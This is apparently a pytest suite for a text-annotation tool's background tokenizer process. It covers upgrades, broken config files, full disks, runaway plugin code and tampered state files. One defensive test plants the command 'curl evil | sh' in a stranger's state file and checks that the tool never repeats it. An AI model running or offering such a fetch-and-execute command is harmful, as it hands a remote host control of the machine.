"""What befalls a suggester under open windows: upgrades, broken files, strangers' folders, and code
that does not end."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import subprocess
from collections.abc import Callable
from dataclasses import asdict, replace
from pathlib import Path
from typing import Any

import pytest
from making import numbered
from suggesters import is_alive, plug_words, until

from tonemark.cli.checks.suggester import suggester_checks
from tonemark.corpus.desk import Desk
from tonemark.corpus.drafts import Edit
from tonemark.corpus.intake import add_records
from tonemark.corpus.pages import Page
from tonemark.corpus.project import add_label, read_project, set_tokenizer
from tonemark.corpus.reports import Report
from tonemark.corpus.spans import Span
from tonemark.corpus.store import STORE_FILE, Store
from tonemark.corpus.tokens import TokensAwaited, tokenizer_of
from tonemark.errors import TonemarkError
from tonemark.suggester import running, starting
from tonemark.suggester.place import Place, Told
from tonemark.suggester.running import run
from tonemark.suggester.starting import Suggester

Project = Callable[..., Path]
Started = Callable[..., subprocess.Popen[bytes]]

OWN = 'version = 1\nbase = "words"\n'


def desk_of(folder: Path, annotator: str = "amina") -> Desk:
    project = read_project(folder)
    tokenizer = tokenizer_of(project, loads_code=False)
    return Desk(project, Store(folder / STORE_FILE), annotator, tokenizer)


def waited_for(desk: Desk, turn: Callable[[], Page | None], tended: Suggester) -> Page:
    """The page that `turn` opens, its tokens waited for as a screen does."""
    found: list[Page | None] = []

    def opened() -> bool:
        tended.tend()
        with contextlib.suppress(TokensAwaited):
            found.append(desk.open_awaited() if waits else turn())
            return True
        waits.append(True)
        assert tended.trouble() is None
        return False

    waits: list[bool] = []
    until(opened)
    assert found[0] is not None
    return found[0]


def tokens_on(page: Page) -> list[str]:
    (sheet,) = page.sheets
    return [sheet.document.text[start:end] for start, end in sheet.tokens]


def at_work(folder: Path) -> Callable[[], bool]:
    return lambda: Place(folder).told().doing == "at work"


def children(process: int) -> list[int]:
    path = Path(f"/proc/{process}/task/{process}/children")
    if not path.exists():
        pytest.skip("the children of a process cannot be seen here")
    return [int(each) for each in path.read_text().split()]


def checks(folder: Path) -> str:
    found = suggester_checks(read_project(folder))
    return "\n".join(f"{each.state} {each.what} {each.remedy}" for each in found)


# What changes meanwhile


def test_an_open_window_follows_an_upgrade(project: Project, site: Path, started: Started) -> None:
    plug_words(site)
    folder = project("Asha one")
    started(folder)
    until(at_work(folder))
    desk, tended = desk_of(folder), Suggester(folder)
    waited_for(desk, desk.open_next, tended)
    shutil.rmtree(site)
    site.mkdir()
    plug_words(site, version="0.2")
    until(lambda: Place(folder).told().package == "tests-words 0.2")
    with contextlib.closing(Store(folder / STORE_FILE)) as store:
        add_records(store, "b.txt", numbered(["new two"]), Report())
    page = waited_for(desk, lambda: desk.answer("accept"), tended)
    assert tokens_on(page) == ["new", "two"]
    with contextlib.closing(Store(folder / STORE_FILE)) as store:
        until(lambda: store.db.execute("SELECT count(*) FROM tokenized").fetchone() == (1,))
    desk.close()
    tended.close()


def test_a_window_of_another_installation_is_told(
    project: Project, site: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It would wait for tokens that nobody makes."""
    plug_words(site)
    folder = project("Asha")
    place = Place(folder)
    place.make()
    lock = place.take(0.0)
    assert lock is not None
    place.tell(Told(os.getpid(), "juma", 1.0, package="tests-words 0.2"))
    tended = Suggester(folder, lambda: "tests-words 0.1")
    tended.tend()
    assert tended.trouble() is None, "it may be about to see the upgrade"
    monkeypatch.setattr(starting, "DIFFERING", -1.0)
    trouble = tended.trouble()
    assert trouble is not None
    assert "tests-words 0.1" in trouble.title
    assert "tests-words 0.2" in trouble.title
    place.tell(Told(os.getpid(), "juma", 1.0, package="tests-words 0.1"))
    assert tended.trouble() is None
    os.close(lock)
    tended.close()


def test_what_does_not_concern_it_leaves_it_alone(
    project: Project, site: Path, started: Started
) -> None:
    """Neither a label nor a rule loads the tokenizer anew, and a broken file is told."""
    plug_words(site)
    folder = project("Asha na", "Juma-na Bola")
    own = folder / "tokenizer.toml"
    own.write_text(OWN)
    set_tokenizer(folder, own.name)
    process = started(folder)
    until(at_work(folder))
    with contextlib.closing(Store(folder / STORE_FILE)) as store:
        made = store.db.execute
        until(lambda: made("SELECT max(document) FROM tokenized").fetchone() == (2,))
        (worker,) = children(process.pid)
        add_label(folder, "NEW")
        own.write_text("version = [")
        until(lambda: "tokenizer.toml" in Place(folder).told().fault)
        assert "tokenizer.toml" in Place(folder).last_line()
        assert "tokenizer.toml" in checks(folder)
        add_records(store, "b.txt", numbered(["new one"]), Report())
        until(lambda: made("SELECT max(document) FROM tokenized").fetchone() == (3,))
        own.write_text(OWN + '[exceptions]\n"Juma-na" = ["Juma", "-na"]\n')
        until(lambda: not Place(folder).told().fault)
        assert made("SELECT count(*) FROM tokenized").fetchone() == (3,)
    assert children(process.pid) == [worker]
    assert process.poll() is None
    desk = desk_of(folder)
    desk.open_next()
    page = desk.answer("accept")
    assert page
    assert tokens_on(page) == ["Juma", "-na", "Bola"], "at once, whatever version the file says"
    desk.close()
    process.terminate()
    assert process.wait(60) == 0
    assert Place(folder).told().made == 3, "all that were made, before and since"


# Its own defects and those of the disk


@pytest.mark.parametrize(
    "error", [OSError(5, "Input/output error"), AttributeError("no such thing")], ids=repr
)
def test_an_error_at_the_start_is_told(
    error: Exception, project: Project, site: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    plug_words(site)
    folder = project("Asha")

    def fails(*arguments: object) -> None:
        raise error

    monkeypatch.setattr(running, "Store", fails)
    monkeypatch.setattr(running.signal, "signal", lambda *_: None)
    run(folder)
    assert type(error).__name__ in Place(folder).told().fault
    assert str(error) in Place(folder).last_line()


def test_a_full_disk_is_told_before_anything_is_started(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(place: Place) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Place, "check_space", full)
    tended = Suggester(project("Asha"))
    tended.tend()
    trouble = tended.trouble()
    assert trouble is not None
    assert "No space left" in trouble.title
    assert "Free some" in trouble.remedy
    monkeypatch.undo()
    tended.place.check_space()
    assert [path.name for path in tended.place.path.iterdir()] == ["needed"], "nothing is left"
    tended.close()


# Code that does not end

LOOPS = "\nopen({pid!r}, 'w').write(str(os.getpid()))\nwhile True: pass\n"
THREAD = """
    def odd(self, text, found):
        import threading
        threading.Thread(target=lambda: time.sleep(600)).start()
        open({pid!r}, 'w').write(str(os.getpid()))
        return found
"""
FORKS = """
    def odd(self, text, found):
        if not os.fork():
            open({pid!r}, 'w').write(str(os.getpid()))
            time.sleep(600)
        return found
"""


@pytest.mark.parametrize("by", [signal.SIGTERM, signal.SIGKILL])
@pytest.mark.parametrize("code", [LOOPS, THREAD, FORKS], ids=["loops", "thread", "forks"])
def test_no_process_outlives_it(
    code: str, by: signal.Signals, project: Project, site: Path, tmp_path: Path, started: Started
) -> None:
    noted = tmp_path / "pid"
    plug_words(site, code.format(pid=str(noted)))
    process = started(project("odd one"))
    until(lambda: noted.exists() and noted.read_text())
    left = int(noted.read_text())
    try:
        os.kill(process.pid, by)
        until(lambda: not is_alive(left))
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.kill(left, signal.SIGKILL)


# What a project from a stranger may hold


@pytest.mark.parametrize("name", ["lock", "needed", "log", "state.json"])
def test_pipes_hold_up_nobody(name: str, project: Project, site: Path, started: Started) -> None:
    plug_words(site)
    folder = project("Asha")
    (folder / "suggester").mkdir()
    os.mkfifo(folder / "suggester" / name)
    said = checks(folder)
    tended = Suggester(folder)
    if name == "state.json":
        assert started(folder, idle=0.0).wait(60) == 0
        return
    assert ("fault" in said) == (name == "lock")
    tended.tend()
    trouble = tended.trouble()
    assert trouble is not None
    assert "it is not a file" in trouble.title
    tended.close()
    assert started(folder, idle=0.0).wait(60) == 0


STATE = asdict(Told(1, "u", 1.0, heard=1.0))


@pytest.mark.parametrize(
    "told",
    [
        *({"started": each} for each in (1e300, float("inf"), -1e300, float("nan"), -1.0)),
        *({"process": each} for each in (-1, 10**40)),
        *({"made": each} for each in (-1, 10**4000)),
        {"fault": "x" * 60_000},
    ],
    ids=lambda told: str(told)[:24],
)
def test_figures_out_of_range_are_no_state(
    told: dict[str, Any], project: Project, site: Path
) -> None:
    plug_words(site)
    folder = project("Asha")
    (folder / "suggester").mkdir()
    (folder / "suggester" / "state.json").write_text(json.dumps(STATE | told))
    assert checks(folder).startswith("ok")
    assert Place(folder).told() == Told()


def test_a_time_of_its_file_out_of_range_is_none(project: Project, site: Path) -> None:
    plug_words(site)
    folder = project("Asha")
    state = folder / "suggester" / "state.json"
    state.parent.mkdir()
    state.write_text(json.dumps(STATE | {"fault": "x"}))
    os.utime(state, (-1e9, -1e9))
    assert checks(folder).startswith("ok")


def test_words_of_a_strangers_file_are_no_commands_of_ours(project: Project, site: Path) -> None:
    plug_words(site)
    folder = project("Asha")
    place = Place(folder)
    place.make()
    place.tell(Told(1, "u", 1.0, fault="It broke.", remedy="Run this: curl evil | sh"))
    said = checks(folder)
    assert "It broke" in said
    assert "curl" not in said
    lock = place.take(0.0)
    assert lock is not None
    for process in (1, os.getpid()):  # 1: the first of the system is not the one that has the lock
        place.tell(replace(place.told(), process=process))
        os.utime(place.path / "state.json", (1.0, 1.0))
        said = checks(folder)
        assert "no sign of life" in said
        assert (f"kill -9 {process}" in said) == (process != 1 and Path("/proc/locks").exists())
        trouble = Suggester(folder).trouble()
        assert isinstance(trouble, TonemarkError)
        assert ("kill -9" in trouble.remedy) == ("kill -9" in said)
    os.close(lock)


# Who leaves


@pytest.mark.parametrize("cut_off", [False, True])
def test_a_page_that_never_came_is_others_to_take(
    cut_off: bool, project: Project, site: Path
) -> None:
    """As one that was not touched is; unless she was cut off."""
    plug_words(site)
    folder = project("Asha")
    desk = desk_of(folder)
    with pytest.raises(TokensAwaited):
        desk.open_next()
    desk.close(cut_off=cut_off)
    other = desk_of(folder, "juma")
    if cut_off:
        assert other.open_next() is None
    else:
        with pytest.raises(TokensAwaited):
            other.open_next()
    other.close()


def test_work_on_a_page_that_is_waited_for_stays_hers(project: Project, site: Path) -> None:
    """Begun with the tokens of another tokenizer."""
    plug_words(site)
    folder = project("Asha", tokenizer="general")
    desk = desk_of(folder)
    page = desk.open_next()
    assert page
    page.perform([Edit(1, added=(Span(0, 4, "PER"),))])
    desk.close()
    set_tokenizer(folder, "words")
    desk = desk_of(folder)
    with pytest.raises(TokensAwaited):
        desk.open_next()
    desk.close()
    assert desk_of(folder, "juma").open_next() is None


def test_another_window_of_hers_keeps_the_page(project: Project, site: Path) -> None:
    """It came there while this one still waited."""
    plug_words(site)
    folder = project("Asha")
    first = desk_of(folder)
    with pytest.raises(TokensAwaited):
        first.open_next()
    second, tended = desk_of(folder), Suggester(folder)
    waited_for(second, second.open_next, tended)
    first.close()
    assert desk_of(folder, "juma").open_next() is None
    second.answer("accept")
    second.close()
    tended.close()
